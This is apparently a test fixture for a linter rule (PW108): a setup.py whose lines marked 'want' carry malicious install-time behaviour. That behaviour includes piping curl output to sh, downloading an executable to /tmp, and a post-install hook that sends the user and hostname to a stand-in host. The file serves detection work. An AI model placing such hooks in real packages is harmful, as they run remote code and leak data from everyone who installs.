# file: setup.py
import getpass
import os
import socket
import subprocess
import sys
import urllib.request

from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install

os.system("curl http://x.example/p | sh")  # want: PW108
urllib.request.urlopen("http://x.example/beacon")  # want: PW108
if os.name == "posix":
    subprocess.call(["sh", "-c", "wget -q http://x.example/a -O /tmp/a; chmod +x /tmp/a"])  # want: PW108

if sys.argv[-1] == "publish":
    os.system("twine upload dist/*")
VERSION = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()


def build_ext():
    subprocess.check_call(["make"])  # runs only when called


def _beacon():
    data = getpass.getuser() + "@" + socket.gethostname()
    urllib.request.urlopen("http://x.example/b?d=" + data)  # want: PW108


class PostInstall(install):
    def run(self):
        _beacon()
        subprocess.Popen([sys.executable, "-c", "import os;os.system('id')"])  # want: PW108
        install.run(self)


class Develop(develop):
    def run(self):
        develop.run(self)
        subprocess.call(["pre-commit", "install"])


setup(name="pkg", version=VERSION, cmdclass={"install": PostInstall, "develop": Develop})
